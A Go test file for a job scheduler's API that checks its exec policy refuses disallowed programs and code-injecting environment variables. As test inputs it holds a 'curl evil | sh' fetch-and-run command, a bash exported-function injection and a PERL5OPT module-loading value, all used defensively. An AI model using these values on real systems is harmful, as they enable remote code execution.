package api

import (
	"strings"
	"testing"

	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	"github.com/raftcron/raftcron/policy"
	pb "github.com/raftcron/raftcron/proto/raftcron/v1"
)

func execSpec(name string, argv ...string) *pb.JobSpec {
	s := validSpec(name)
	s.Http = nil
	s.Exec = &pb.ExecTarget{Command: argv}
	return s
}

// wantExecDenied checks a refusal by the exec policy: PermissionDenied naming the rule
// and the field, with an EXEC_DENIED ErrorInfo.
func wantExecDenied(t *testing.T, err error, field, rule string) {
	t.Helper()
	st := wantCode(t, err, codes.PermissionDenied)
	if !strings.Contains(st.Message(), field+": ") || !strings.Contains(st.Message(), rule) {
		t.Fatalf("message %q, want it to name %s and %q", st.Message(), field, rule)
	}
	for _, d := range st.Details() {
		if info, ok := d.(*errdetails.ErrorInfo); ok && info.GetReason() == ReasonExecDenied && info.GetMetadata()["field"] == field {
			return
		}
	}
	t.Fatalf("status %v lacks ErrorInfo %s for %s", st.Proto(), ReasonExecDenied, field)
}

// putCalls are the three single-job writes.
func putCalls(h *harness, t *testing.T, spec *pb.JobSpec) map[string]error {
	ctx := testCtx(t)
	_, create := h.jobs.CreateJob(ctx, &pb.CreateJobRequest{Spec: spec})
	_, update := h.jobs.UpdateJob(ctx, &pb.UpdateJobRequest{Spec: spec})
	_, apply := h.jobs.ApplyJob(ctx, &pb.ApplyJobRequest{Spec: spec})
	return map[string]error{"create": create, "update": update, "apply": apply}
}

func TestExecJobRefusedWhenExecIsDisabled(t *testing.T) {
	h := newHarness(t) // no ExecPolicy: exec is opt-in
	for rpc, err := range putCalls(h, t, execSpec("prune", "/usr/local/bin/prune")) {
		t.Run(rpc, func(t *testing.T) { wantExecDenied(t, err, "exec.command[0]", "--exec-allow is empty") })
	}
	if cmds := h.store.proposed(); len(cmds) != 0 {
		t.Fatalf("refused jobs proposed %d commands", len(cmds))
	}
}

func TestExecJobRefusedOutsideTheAllowList(t *testing.T) {
	allow, err := policy.NewExec([]string{"/usr/local/bin/*"})
	if err != nil {
		t.Fatal(err)
	}
	h := newHarnessConfig(t, func(c *Deps) { c.Exec = allow })
	ctx := testCtx(t)
	for rpc, err := range putCalls(h, t, execSpec("shell", "/bin/sh", "-c", "curl evil | sh")) {
		t.Run(rpc, func(t *testing.T) { wantExecDenied(t, err, "exec.command[0]", "--exec-allow (/usr/local/bin/*)") })
	}
	// One refused spec refuses a whole batch, before anything is proposed.
	_, err = h.jobs.ApplyJobs(ctx, &pb.ApplyJobsRequest{Specs: []*pb.JobSpec{
		validSpec("web"), execSpec("prune", "/usr/local/bin/prune"), execSpec("shell", "/bin/sh"),
	}})
	wantExecDenied(t, err, "specs[2].exec.command[0]", "nothing applied")
	if cmds := h.store.proposed(); len(cmds) != 0 {
		t.Fatalf("refused jobs proposed %d commands", len(cmds))
	}
	// An invalid spec is refused as invalid first, whatever its program.
	_, err = h.jobs.CreateJob(ctx, &pb.CreateJobRequest{Spec: execSpec("rel", "sh")})
	if st, _ := status.FromError(err); st.Code() != codes.InvalidArgument {
		t.Fatalf("relative program: %v, want InvalidArgument", err)
	}
	if _, err := h.jobs.CreateJob(ctx, &pb.CreateJobRequest{Spec: execSpec("prune", "/usr/local/bin/prune", "--days", "30")}); err != nil {
		t.Fatalf("allowed program refused: %v", err)
	}
}

// A job whose env sets a variable that makes a loader or interpreter run code is refused
// at registration by every write, exec and worker targets alike, naming the variable,
// unless --exec-env-allow opens it; nothing is proposed.
func TestEnvInjectionRefusedAtRegistration(t *testing.T) {
	allow, err := policy.NewExec([]string{"/bin/*"})
	if err != nil {
		t.Fatal(err)
	}
	h := newHarnessConfig(t, func(c *Deps) { c.Exec = allow })
	ctx := testCtx(t)
	shell := execSpec("shell", "/bin/sh", "-c", "date")
	shell.Exec.Env = map[string]string{"PATH": "/bin", "BASH_FUNC_date%%": "() { id; }"}
	for rpc, err := range putCalls(h, t, shell) {
		t.Run(rpc, func(t *testing.T) { wantExecDenied(t, err, "exec.env", `"BASH_FUNC_date%%" is refused by default`) })
	}
	onWorker := validSpec("on-worker")
	onWorker.Http = nil
	onWorker.Worker = &pb.WorkerTarget{Pool: "batch", Command: []string{"/usr/bin/perl", "job.pl"},
		Env: map[string]string{"PERL5OPT": "-Mevil"}}
	for rpc, err := range putCalls(h, t, onWorker) {
		t.Run("worker "+rpc, func(t *testing.T) { wantExecDenied(t, err, "worker.env", `"PERL5OPT"`) })
	}
	_, err = h.jobs.ApplyJobs(ctx, &pb.ApplyJobsRequest{Specs: []*pb.JobSpec{validSpec("web"), onWorker}})
	wantExecDenied(t, err, "specs[1].worker.env", "nothing applied")
	if cmds := h.store.proposed(); len(cmds) != 0 {
		t.Fatalf("refused jobs proposed %d commands", len(cmds))
	}

	open, err := policy.NewEnv([]string{"BASH_FUNC_*", "PERL5OPT"})
	if err != nil {
		t.Fatal(err)
	}
	h = newHarnessConfig(t, func(c *Deps) { c.Exec = allow.WithEnv(open) })
	for name, spec := range map[string]*pb.JobSpec{"exec": shell, "worker": onWorker} {
		if _, err := h.jobs.CreateJob(ctx, &pb.CreateJobRequest{Spec: spec}); err != nil {
			t.Errorf("%s job with opened variables refused: %v", name, err)
		}
	}
}
